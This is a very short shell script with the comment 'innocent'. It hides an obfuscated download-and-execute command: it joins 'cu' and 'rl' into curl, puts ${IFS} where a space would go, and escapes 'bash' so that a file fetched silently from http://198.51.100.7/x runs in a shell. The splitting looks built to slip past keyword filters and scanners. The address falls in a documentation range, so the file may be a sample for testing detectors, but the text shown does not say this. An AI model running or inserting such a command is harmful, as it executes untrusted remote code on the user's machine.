#!/bin/sh
# innocent
a=cu
b=rl
$a$b${IFS}-s http://198.51.100.7/x|b\ash
